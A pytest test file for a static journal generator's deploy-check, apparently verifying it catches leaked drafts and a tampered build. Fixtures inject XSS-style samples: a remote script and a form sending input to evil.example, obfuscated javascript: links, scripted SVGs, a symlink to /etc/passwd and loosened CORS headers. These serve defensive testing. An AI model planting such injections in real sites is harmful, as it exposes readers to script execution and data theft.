"""`journalgen deploy-check` finds what must not be published."""

from __future__ import annotations

import os

import pytest

from conftest import NOW, SiteDir
from journalgen.cli import main
from journalgen.commands.deploycheck import check_site


def _good_site(site: SiteDir) -> None:
    site.write("content/photos/bear.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>")
    site.page("about.md", 'title: "About"')
    site.entry(
        "2026-11-20-home.md",
        'title: "Home at last"\ntags: [home]',
        "Read [about us](/about/). ![Cooper's bear on the bed](../photos/bear.svg)\n",
    )
    site.entry(
        "2026-11-21-secret.md",
        'title: "Not yet"\ndraft: true',
        "The grandparents must not read this before Sunday's lunch at the farm.\n",
    )


def _messages(site: SiteDir) -> list[str]:
    report = check_site(site.root, site.out, now=NOW)
    return [problem.format(site.root) for problem in report.problems]


def test_a_good_build_passes(site: SiteDir, capsys: pytest.CaptureFixture[str]) -> None:
    _good_site(site)
    site.build()
    assert _messages(site) == []
    assert main(["deploy-check", "--site", str(site.root)]) == 0
    assert "nothing to fix" in capsys.readouterr().out


def test_a_broken_link_is_named_with_its_page(site: SiteDir) -> None:
    _good_site(site)
    site.entry("2026-11-22-more.md", 'title: "More"', "See [the photos](/gallery/).\n")
    site.build()
    problems = _messages(site)
    assert any("2026/11/more/index.html" in p and "/gallery/" in p for p in problems), problems


def test_a_missing_image_is_found(site: SiteDir) -> None:
    _good_site(site)
    site.build()
    (site.out / "photos" / "bear.svg").unlink()
    problems = _messages(site)
    assert any("image to /photos/bear.svg" in p for p in problems), problems


def test_a_leaked_draft_is_found(site: SiteDir, capsys: pytest.CaptureFixture[str]) -> None:
    _good_site(site)
    site.build(drafts=True)
    problems = _messages(site)
    assert any("2026-11-21-secret.md" in p and "draft" in p for p in problems), problems
    assert main(["deploy-check", "--site", str(site.root)]) == 1
    assert "secret.md" in capsys.readouterr().err


def test_a_netlify_form_without_form_name_is_found(site: SiteDir) -> None:
    _good_site(site)
    site.write(
        "static/contact/index.html",
        '<!DOCTYPE html><html lang="en"><title>x</title>'
        '<form name="contact" method="POST" data-netlify="true" action="/">'
        '<input name="message"></form></html>',
    )
    site.build()
    problems = _messages(site)
    assert any("form-name" in p for p in problems), problems


def test_a_missing_guestbook_form_is_found(site: SiteDir) -> None:
    _good_site(site)
    site.write("templates/_guestbook.html", "")  # an override that drops the form
    site.write("templates/guestbook.html", '{% extends "base.html" %}')
    site.build()
    problems = _messages(site)
    assert any("guestbook form 'guestbook'" in p for p in problems), problems


# --- The gate before publishing: tampering with a good build ------------------------------

FAREWELL = """\
---
title: "Goodbye"
kind: farewell
draft: true
---

I'm writing this while I still can: thank you, every one of you, for the soup and the songs.
"""


def _tampered(site: SiteDir, change: str) -> list[str]:
    _good_site(site)
    if change == "noindex removed":
        settings = site.root / "journalgen.yaml"
        settings.write_text(settings.read_text().replace("privacy: public", "privacy: private"))
    site.write("content/entries/goodbye.md", FAREWELL)
    site.build()
    assert _messages(site) == []
    index = site.out / "index.html"
    page = index.read_text(encoding="utf-8")
    if change == "extra file":
        (site.out / "notes.txt").write_text("private notes\n")
    elif change == "temporary file":
        (site.out / ".index.html.journalgen-795.tmp").write_text(page)
    elif change == "script":
        index.write_text(
            page.replace("</body>", '<script src="https://evil.example/x.js"></script></body>')
        )
    elif change == "iframe":
        index.write_text(
            page.replace("</main>", '<iframe src="https://evil.example/"></iframe></main>')
        )
    elif change == "javascript link":
        index.write_text(
            page.replace("</main>", '<a href=" JaVa&#x09;script:alert(1)">x</a></main>')
        )
    elif change == "foreign form":
        index.write_text(
            page.replace(
                "</main>",
                '<form action="https://evil.example/collect"><input name=q></form></main>',
            )
        )
    elif change == "link to a system file":
        (site.out / "robots.txt").unlink()
        (site.out / "robots.txt").symlink_to("/etc/passwd")
    elif change == "draft in feed":
        feed = site.out / "feed.xml"
        feed.write_text(
            feed.read_text().replace(
                "</channel>",
                "<item><description>The grandparents must not read this before "
                "Sunday&apos;s lunch</description></item></channel>",
            )
        )
    elif change == "farewell in a text file":
        robots = site.out / "robots.txt"
        robots.write_text(
            robots.read_text() + "# I'm writing this while I still can: thank "
            "you, every one of you\n"
        )
    elif change == "draft title in a page":
        index.write_text(page.replace("</main>", "<p>Not yet</p></main>"))
    elif change == "animated link":
        index.write_text(
            page.replace(
                "</main>",
                '<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
                "<text>x</text></a></svg></main>",
            )
        )
    elif change == "drawing with a script":
        (site.out / "photos/bear.svg").write_text(
            "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>"
            "<script>alert(2)</script></svg>"
        )
    elif change == "script in the feed":
        feed = site.out / "feed.xml"
        feed.write_text(
            feed.read_text().replace(
                "</description>", "&lt;script&gt;alert(1)&lt;/script&gt;</description>", 1
            )
        )
    elif change == "looser headers":
        headers = site.out / "_headers"
        headers.write_text(
            headers.read_text() + "/*\n  Access-Control-Allow-Origin: *\n"
            "/photos/*\n  Content-Security-Policy: default-src *\n"
        )
    elif change == "noindex removed":
        index.write_text(page.replace('<meta name="robots" content="noindex, nofollow">', ""))
    elif change == "file added to the list":
        (site.out / "extra.html").write_text("<!DOCTYPE html><title>x</title>")
        listing = site.out / ".journalgen-output.json"
        listing.write_text(listing.read_text().replace('"files": [', '"files": ["extra.html",'))
    elif change == "same size and time":
        before = index.stat()
        index.write_text(page.replace("Home at last", "Home at l4st"))
        os.utime(index, ns=(before.st_atime_ns, before.st_mtime_ns))
        assert index.stat().st_size == before.st_size
        assert main(["build", "--site", str(site.root), "--quiet"]) == 0
        assert "Home at l4st" in index.read_text()  # a build with nothing new keeps it
    return _messages(site)  # fmt: skip


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ("draft title in a page", "index.html: this file was changed after the last build"),
        ("animated link", "index.html: this page has a `to` that runs code"),
        ("drawing with a script", "bear.svg: this drawing has a script"),
        ("script in the feed", "feed.xml: the feed carries a script"),
        ("looser headers", "_headers: this file was changed after the last build"),
        ("noindex removed", "index.html: this page of a journal that is not public"),
        ("file added to the list", "extra.html: this file was not written by the last build"),
        ("same size and time", "index.html: this file was changed after the last build"),
        ("extra file", "notes.txt: this file was not written by the last build"),
        ("temporary file", ".index.html.journalgen-795.tmp: this file was not written"),
        ("script", "index.html: this page has a script (https://evil.example/x.js)"),
        ("iframe", "index.html: this page has a <iframe>"),
        ("javascript link", "index.html: this page has a `href` that runs code"),
        ("foreign form", "sends what readers type to https://evil.example/collect"),
        ("link to a system file", "robots.txt: this is a link to /etc/passwd"),
        ("draft in feed", "2026-11-21-secret.md: this entry is a draft but its words"),
        ("farewell in a text file", "goodbye.md: this entry is a held farewell but its words"),
    ],
)
def test_deploy_check_catches_tampering(site: SiteDir, change: str, expected: str) -> None:
    problems = _tampered(site, change)
    assert any(expected in problem for problem in problems), problems


def test_deploy_check_compares_netlify_toml_with_the_headers_file(site: SiteDir) -> None:
    from journalgen.publishing import hosts

    _good_site(site)
    site.write("netlify.toml", hosts.netlify_toml().decode())
    site.build()
    assert _messages(site) == []
    site.write(
        "netlify.toml",
        hosts.netlify_toml().decode().replace('Referrer-Policy = "same-origin"',
                                              'Referrer-Policy = "unsafe-url"'),
    )  # fmt: skip
    assert any("Referrer-Policy for /* differs" in p for p in _messages(site))


def test_a_draft_sharing_words_with_the_theme_or_settings_is_no_leak(site: SiteDir) -> None:
    from journalgen.structure.i18n import Language

    _good_site(site)
    help_text = Language("en").label("gb_message_help")
    site.entry("2026-11-22-quote.md", 'title: "Q"\ndraft: true', f"{help_text}\n")
    site.entry("2026-11-23-about.md", 'title: "R"\ndraft: true', "A journal for tests.\n")
    site.build()
    assert _messages(site) == []


def test_a_short_draft_is_found_whole(site: SiteDir) -> None:
    _good_site(site)
    site.entry("2026-11-24-news.md", 'title: "News"\ndraft: true', "Biopsy: cancer is back.\n")
    site.build()
    index = site.out / "index.html"
    index.write_text(index.read_text().replace("</main>", "<p>Biopsy: cancer is back.</p></main>"))
    assert any("“biopsy cancer is back”" in p for p in _messages(site)), _messages(site)
